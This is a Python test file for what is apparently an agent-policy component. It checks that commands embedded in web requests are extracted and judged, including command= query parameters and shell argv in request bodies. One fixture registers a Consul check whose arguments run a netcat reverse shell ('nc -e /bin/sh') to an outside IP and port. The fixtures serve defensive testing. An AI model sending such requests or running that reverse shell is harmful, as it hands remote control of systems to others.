"""A request that asks the service it reaches to run a command is also judged as that command
(policy/decide/tool_views.py ``_embedded_commands``): a ``command=``/``cmd=`` query parameter with
its ``args``, and a body's argv handing a shell a script. Spellings of our own, no corpus entry."""

from __future__ import annotations

from typing import Any

import pytest
from dsh_policy.policy.decide.tool_views import views


def shells(tool: str, args: dict[str, Any]) -> list[str]:
    found = views(tool, args)
    return [] if found is None else [a["command"] for name, a in found.calls if name == "shell"]


def test_a_query_naming_a_command_and_its_arguments() -> None:
    url = "http://localhost:6274/sse?transportType=stdio&command=node&args=%2Ftmp%2Fx.js%20--port%201"
    assert shells("web_fetch", {"url": url}) == ["node /tmp/x.js --port 1"]


def test_a_body_argv_handing_a_shell_a_script() -> None:
    args = {
        "url": "http://127.0.0.1:8500/v1/agent/check/register",
        "method": "PUT",
        "json": {"Name": "c", "Args": ["/bin/sh", "-c", "nc -e /bin/sh 10.9.8.7 4444"]},
    }
    assert shells("http_request", args) == ["/bin/sh -c 'nc -e /bin/sh 10.9.8.7 4444'"]
    as_text = {**args, "json": None, "body": '{"spec": {"command": ["bash", "-lc", "id"]}}'}
    assert shells("http_request", as_text) == ["bash -lc id"]


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("web_fetch", {"url": "https://docs.example.org/reference?q=command+line"}),
        (
            "http_request",
            {"url": "https://api.example.org/v1/items", "method": "POST", "json": {"tags": ["a", "b", "c"]}},
        ),
        (
            "http_request",
            {
                "url": "https://api.example.org/v1/run",
                "method": "POST",
                "json": {"argv": ["python", "-m", "x"]},
            },
        ),
    ],
)
def test_requests_without_a_command_have_no_shell_view(tool: str, args: dict[str, Any]) -> None:
    assert shells(tool, args) == []
